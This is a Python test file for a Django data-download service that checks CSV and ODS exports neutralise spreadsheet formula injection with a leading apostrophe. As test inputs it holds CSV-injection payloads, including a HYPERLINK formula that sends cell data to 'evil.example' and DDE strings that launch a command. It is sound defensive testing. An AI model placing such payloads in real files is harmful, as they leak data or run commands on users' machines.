"""CSV and ODS downloads cannot run a formula: a text cell that a spreadsheet would read as
one (OWASP CSV injection: = + - @, tab, carriage return) is written with an apostrophe in
front, numbers stay numbers, and the JSON download keeps the text as recorded (ADR 0023)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from odf.namespaces import OFFICENS
from odf.opendocument import load
from odf.table import Table, TableCell, TableRow

from areasend.areas.event_log import do_import_history
from areasend.planner.problem import Activity, Assignment, Kind, Plan, Scenario, Team
from areasend.planner.services import plan_csv, plan_rows
from areasend.register import export
from areasend.register.catalogue import DATASETS, Column
from areasend.register.figures import SLUGS

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the plan")',
    "+cmd|' /C calc'!A0 the waiting times",
    "-2+3+cmd|' /C calc'!A0 co-production",
    "@SUM(1+1)*cmd|' /C calc'!A0 joint commissioning",
)
SPREADSHEET_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")


def formula_cells(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula sign first, and not just a number."""
    return [
        c
        for c in cells
        if c.lstrip(" ").startswith(SPREADSHEET_SIGNS)
        and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c.strip())
    ]


def _history() -> str:
    full = {"area": "Kent", "inspection": "k"}
    revisit = {"area": "Kent", "inspection": "k-revisit"}
    lines = [
        {**full, "date": "2019-01-21", "event": "inspection_notified", "kind": "full",
         "framework": "2016"},
        {**full, "date": "2019-01-28", "event": "fieldwork_started"},
        {**full, "date": "2019-02-01", "event": "fieldwork_ended"},
        {**full, "date": "2019-03-29", "event": "letter_published", "outcome": "wsoa",
         "weaknesses": list(HOSTILE)},
        {**revisit, "date": "2021-05-04", "event": "inspection_notified", "kind": "revisit",
         "framework": "2016"},
        {**revisit, "date": "2021-05-18", "event": "fieldwork_started"},
        {**revisit, "date": "2021-05-20", "event": "fieldwork_ended"},
        {**revisit, "date": "2021-07-27", "event": "letter_published"},
        *({**revisit, "date": "2021-07-27", "event": "progress_judged", "weakness": w,
           "sufficient": n % 2 == 0} for n, w in enumerate(HOSTILE)),
    ]  # fmt: skip
    return "".join(json.dumps(line) + "\n" for line in lines)


@pytest.fixture
def hostile(db: None) -> None:
    do_import_history(_history())


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline=""), strict=True))


def _ods(body: bytes) -> list[list[str]]:
    doc = load(io.BytesIO(body))
    return [
        [str(cell) for cell in row.getElementsByType(TableCell)]
        for table in doc.spreadsheet.getElementsByType(Table)
        for row in table.getElementsByType(TableRow)
    ]


@pytest.mark.parametrize("slug", ["weaknesses", "progress"])
def test_hostile_findings_come_out_of_the_csv_and_ods_as_text(
    client: Client, hostile: None, slug: str
) -> None:
    csv_cells = [c for r in _csv(client.get(f"/data/{slug}.csv").content) for c in r]
    ods_cells = [c for r in _ods(client.get(f"/data/{slug}.ods").content) for c in r]
    for finding in HOSTILE:
        assert "'" + finding in csv_cells
        assert "'" + finding in ods_cells
        assert finding not in csv_cells and finding not in ods_cells
    json_rows = json.loads(client.get(f"/data/{slug}.json").content)["rows"]
    assert set(HOSTILE) <= {v for row in json_rows for v in row.values()}, "JSON is as recorded"


@pytest.mark.parametrize("slug", list(DATASETS))
def test_no_dataset_download_holds_a_formula(client: Client, hostile: None, slug: str) -> None:
    csv_rows = _csv(client.get(f"/data/{slug}.csv").content)
    assert len(csv_rows) > 1
    assert formula_cells([c for r in csv_rows for c in r]) == []
    assert (
        formula_cells([c for r in _ods(client.get(f"/data/{slug}.ods").content) for c in r]) == []
    )


@pytest.mark.parametrize("slug", SLUGS)
def test_no_dashboard_download_holds_a_formula(client: Client, hostile: None, slug: str) -> None:
    response = client.get(reverse("register:dashboard_csv", kwargs={"slug": slug}))
    assert response.status_code == 200
    assert formula_cells([c for r in _csv(response.content) for c in r]) == []


def test_the_csvw_metadata_tells_readers_about_the_apostrophe(client: Client, db: None) -> None:
    meta = json.loads(client.get("/data/weaknesses.csv-metadata.json").content)
    assert "apostrophe" in meta["rdfs:comment"]


def test_the_programme_plan_csv_holds_no_formula() -> None:
    start = dt.date(2026, 1, 5)
    hostile_area = Activity(
        id="a1", area="E1", region="London", kind=Kind.FULL, earliest_week=0, due_week=2,
        latest_week=10, priority=1, on_site_weeks=1, notice_weeks=1,
        term_weeks=frozenset(range(11)), rule="@SUM(1+1)", area_name=HOSTILE[0],
    )  # fmt: skip
    scenario = Scenario(start, 11, (hostile_area,), (Team("=1+1", ofsted=2, cqc=1),))
    rows = _csv(plan_csv(plan_rows(scenario, Plan((Assignment("a1", 5, "=1+1"),)))).encode())
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["area"] == "'" + HOSTILE[0]
    assert (cells["rule"], cells["team"]) == ("'@SUM(1+1)", "'=1+1")
    assert cells["late_weeks"] == "3", "counts are not touched"
    assert formula_cells(rows[1]) == []


@pytest.mark.parametrize(
    ("recorded", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0018", "'+44 20 7946 0018"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("Joint commissioning = weak", "Joint commissioning = weak"),
        ("", ""),
        ("'quoted'", "'quoted'"),
    ],
)
def test_spreadsheet_text_neutralises_formula_signs_and_keeps_numbers(
    recorded: str, written: str
) -> None:
    assert export.spreadsheet_text(recorded) == written


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=40) | st.sampled_from(HOSTILE))
def test_no_text_comes_out_as_a_formula_and_the_text_is_never_altered(value: str) -> None:
    written = export.spreadsheet_text(value)
    assert written in (value, "'" + value), "at most an apostrophe in front"
    assert formula_cells([written]) == []


def test_typed_negative_numbers_stay_numbers_in_csv_and_ods() -> None:
    columns = (
        Column("change", "Change", "integer", True),
        Column("ratio", "Ratio", "decimal", True),
        Column("text", "Text", "string", True),
    )
    rows = [(-3, -1.5, "=1+1"), (4, 0.25, "-7")]
    assert _csv(export.to_csv(columns, rows).encode())[1:] == [
        ["-3", "-1.5", "'=1+1"],
        ["4", "0.25", "-7"],
    ]
    doc = load(
        io.BytesIO(export.to_ods("t", columns, rows, dt.datetime(2026, 1, 1, tzinfo=dt.UTC)))
    )
    data = doc.spreadsheet.getElementsByType(Table)[0]
    first = data.getElementsByType(TableRow)[1].getElementsByType(TableCell)
    assert [c.getAttrNS(OFFICENS, "value-type") for c in first] == ["float", "float", "string"]
    assert [c.getAttrNS(OFFICENS, "value") for c in first[:2]] == ["-3", "-1.5"]
    assert str(first[2]) == "'=1+1"
